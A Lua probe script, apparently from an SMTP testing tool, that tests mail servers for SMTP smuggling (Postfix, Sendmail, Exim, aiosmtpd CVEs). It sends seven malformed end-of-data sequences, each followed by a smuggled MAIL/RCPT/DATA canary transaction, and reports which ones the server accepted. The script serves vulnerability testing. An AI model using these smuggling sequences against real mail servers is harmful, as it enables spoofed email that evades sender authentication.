-- probe-smuggling: sends each SMTP smuggling end-of-data variant followed by a pipelined MAIL/RCPT/DATA canary and reports which ones the server took as the end of the message.
--
-- What it does: one connection per variant. After DATA and 354 it writes, in one segment, a
-- message line, the variant (`<LF>.<LF>`, `<CR>.<CR>`, `<LF>.<CR><LF>`, `<CR><LF>.<LF>`,
-- `<CR><LF>.<CR>`, `<CR>.<LF>`, `<CR><LF><NUL>.<CR><LF>`), then "MAIL FROM / RCPT TO / DATA", a
-- canary message, the real `<CR><LF>.<CR><LF>`, and an unknown command as a marker. It counts
-- the replies: two (the message's and the marker's, whatever its code) mean the variant stayed
-- inside the message; more (250, 250, 354, 250, then the marker's) mean the server ended the
-- message at the variant and ran the smuggled transaction (the SEC Consult method). Past a
-- second reply of 500 or 502 (the marker's), replies stop being counted after 2 seconds without
-- one (or --timeout, when shorter). A refusal or a close in answer to that write shows nothing
-- by itself: a server that refuses commands pipelined after a message (OpenSMTPD 6.8) answers
-- so wherever it ended the data. The variant then goes again on a new connection, alone: a
-- reply to it within those 2 seconds is the server ending the data there, and the smuggled
-- MAIL, RCPT, DATA and canary follow one at a time, each after the reply to the one before.
-- A refused MAIL FROM, RCPT TO or DATA stops the probe (skipped, with the refusal as a failed
-- step): no variant can be judged in a message that never began. The variants before it keep
-- their results.
-- What it targets: SMTP smuggling, Postfix CVE-2023-51764, Sendmail CVE-2023-51765, Exim
-- CVE-2023-51766, aiosmtpd CVE-2024-27305, Cisco Secure Email (`<CR>.<CR>`); RFC 5321
-- 4.1.1.4 (only CRLF.CRLF ends the data) and 2.3.8 (bare CR and LF are not line endings).
-- What a correct server does: ends the data only at `<CR><LF>.<CR><LF>`: each variant is either
-- kept in the message (one 250) or the message is rejected (e.g. Postfix's
-- smtpd_forbid_bare_newline = reject) and nothing after the variant read as a command; never a
-- second transaction from inside the data.
-- Report keys: one per variant, "not end of data", "END OF DATA (smuggled message accepted)",
-- "END OF DATA (smuggled transaction refused: ...)", "END OF DATA (the message accepted at the
-- variant: ...)", "rejected: <reply>", "closed (...)" or "timeout (...)", followed by "(the
-- variant sent alone: the one-write test got '<reply or close>')" when it was sent again alone.
-- A timeout fails the variant: a server that has not answered has not shown where it ended the
-- data.
-- Params: from, rcpt (addresses), helo, starttls and ca (STARTTLS first, for a server that requires
-- it; ca verifies its certificate).

local from = params.from or "probe@smtpfault.test"
local rcpt = params.rcpt or "rcpt@example.com"
local helo = params.helo or "smuggling-probe.smtpfault.test"

local variants = {
  { "lf-dot-lf", "\n.\n" },
  { "cr-dot-cr", "\r.\r" },
  { "lf-dot-crlf", "\n.\r\n" },
  { "crlf-dot-lf", "\r\n.\n" },
  { "crlf-dot-cr", "\r\n.\r" },
  { "cr-dot-lf", "\r.\n" },
  { "crlf-nul-dot-crlf", "\r\n\0.\r\n" },
}

local marker = "XSMTPFAULT-MARKER"

-- The smuggled commands' replies come straight after the message's (they arrived in one
-- segment with it), so a pause this long after the second reply means there are no more. Read
-- when needed, not at load: `smtpfault check` loads the probe as a scenario first, and only one
-- that stops at connect() is taken for a client script (a scenario has no `target`).
local function settle()
  return math.min(target.timeout, 2)
end

local function first_line(r)
  return r.code .. " " .. (r.lines[1] or "")
end

-- What a wait that got no reply says: what it waited for, or how the connection ended.
local function no_reply(err, what)
  return err == "timeout" and "timeout (no reply to " .. what .. ")" or "closed (" .. err .. ")"
end

-- QUIT, unless the server is gone or did not answer the last wait (it would not answer this
-- one either), then close.
local function goodbye(c, quit)
  if quit and not c.closed then
    send("QUIT")
    reply({ timeout = settle() })
  end
  close()
end

-- Counts replies rather than trusting the marker's code: a server that kept the variant inside
-- the message answers twice (the message, then the marker with whatever code it gives unknown
-- commands: 500, 502, 550, a 421 and close); one that ended the data there also answers the
-- smuggled MAIL, RCPT, DATA and the canary before the marker.
local function outcome(c)
  local first, err = c:reply()
  if not first then return no_reply(err, "the message") end
  local inside = first.code >= 400 and "rejected: " .. first_line(first) or "not end of data"
  local second, second_err = c:reply()
  if second_err == "timeout" then return "timeout (no reply to the marker after the message)" end
  -- 500 and 502 are what unknown commands get, and never a MAIL's answer: no need to wait.
  if not second or second.code == 500 or second.code == 502 then return inside end
  local later = {}
  local r = c:reply({ timeout = settle() })
  while r do
    later[#later + 1] = r
    r = c:reply({ timeout = settle() })
  end
  if #later == 0 then return inside end
  -- second answered the smuggled MAIL; the last of later answered the marker.
  local saw_354 = false
  for i = 1, #later - 1 do
    saw_354 = saw_354 or later[i].code == 354
  end
  local canary = #later >= 2 and later[#later - 1] or nil
  if saw_354 and canary and canary.code == 250 then return "END OF DATA (smuggled message accepted)" end
  return "END OF DATA (smuggled commands answered, " .. second.code .. " to MAIL)"
end

-- A new connection with the probe's transaction up to the 354. A refusal stops the probe: what
-- it would send next would be read as commands, and no variant can be judged in a message that
-- never began.
local function open_connection_with_data()
  local c = connect {}
  greeting()
  ehlo(helo, { starttls = starttls_from_params() })
  send_or_skip("MAIL FROM:<" .. from .. ">", 250, "give a sender it takes with --param from=ADDR")
  send_or_skip("RCPT TO:<" .. rcpt .. ">", 250, "give a recipient it takes with --param rcpt=ADDR")
  send_or_skip("DATA", 354, "nothing to probe")
  return c
end

-- The server answered the message at the variant (early): the smuggled transaction goes one
-- command at a time, as an attacker who waits for each reply sends it. After a refusal, a MAIL
-- that gets no reply (the server closed, or reads on to the real end) was not read as a command:
-- the message was refused, and nothing was smuggled.
local function smuggle_in_turn(early)
  send("MAIL FROM:<canary@smtpfault.test>")
  local m = reply({ timeout = settle() })
  if not m then
    if early.code >= 400 then return "rejected: " .. first_line(early) end
    return "END OF DATA (the message accepted at the variant: " .. first_line(early) .. ")"
  end
  local steps = { { m, "MAIL", 250 }, { "RCPT TO:<" .. rcpt .. ">", "RCPT", 250 }, { "DATA", "DATA", 354 } }
  for i, step in ipairs(steps) do
    local r = step[1]
    if i > 1 then
      send(step[1])
      r = reply({ timeout = target.timeout })
    end
    if not r or r.code ~= step[3] then
      return "END OF DATA (smuggled transaction refused: " .. (r and r.code or "no reply") .. " to " .. step[2] .. ")"
    end
  end
  raw("Subject: smuggled canary\r\n\r\ncanary\r\n.\r\n")
  local r = reply({ timeout = target.timeout })
  if r and r.code == 250 then return "END OF DATA (smuggled message accepted)" end
  return "END OF DATA (smuggled message refused: " .. (r and r.code or "no reply") .. ")"
end

-- A server that refuses commands pipelined after a message (OpenSMTPD answers "500 Pipelining
-- not supported" and closes) refuses the one-segment write whether it ended the data at the
-- variant or at the real end, so that refusal shows nothing. Then the variant goes again on a
-- new connection, on its own: a reply to it within settle() is the server ending the data there.
-- No reply: the rest goes as message text, and a reply past the message's is a late answer to
-- the variant after all.
local function variant_alone(name, terminator, refused)
  local c = open_connection_with_data()
  raw("Subject: smuggling probe " .. name .. "\r\n\r\nfirst message, variant " .. name .. terminator)
  local early, err = reply({ timeout = settle() })
  local result
  if early then
    result = smuggle_in_turn(early)
  elseif err ~= "timeout" then
    result = no_reply(err)
  else
    raw("MAIL FROM:<canary@smtpfault.test>\r\nRCPT TO:<" .. rcpt .. ">\r\nDATA\r\n"
      .. "Subject: smuggled canary " .. name .. "\r\n\r\ncanary\r\n.\r\n")
    local r, rerr = reply({ timeout = target.timeout })
    if not r then
      result = no_reply(rerr, "the message")
    elseif reply({ timeout = settle() }) then
      result = "END OF DATA (smuggled commands answered, late)"
    else
      result = r.code >= 400 and "rejected: " .. first_line(r) or "not end of data"
    end
  end
  goodbye(c, result:sub(1, 7) ~= "timeout")
  return result .. " (the variant sent alone: the one-write test got '" .. refused:gsub("^rejected: ", "") .. "')"
end

for _, v in ipairs(variants) do
  local name, terminator = v[1], v[2]
  local c = open_connection_with_data()
  raw("Subject: smuggling probe " .. name .. "\r\n\r\nfirst message, variant " .. name
    .. terminator .. "MAIL FROM:<canary@smtpfault.test>\r\nRCPT TO:<" .. rcpt .. ">\r\nDATA\r\n"
    .. "Subject: smuggled canary " .. name .. "\r\n\r\ncanary\r\n.\r\n" .. marker .. "\r\n")
  local result = outcome(c)
  goodbye(c, result:sub(1, 7) ~= "timeout")
  if result:sub(1, 8) == "rejected" or result:sub(1, 6) == "closed" then
    -- Kept should the second try stop the probe (a refused recipient, a 421 greeting).
    report(name, result .. " (then sent alone, with no outcome)")
    result = variant_alone(name, terminator, result)
  end
  local timed_out = result:sub(1, 7) == "timeout"
  report(name, result)
  check(result:sub(1, 11) ~= "END OF DATA" and not timed_out,
    "variant " .. name .. " does not end the data", result)
end
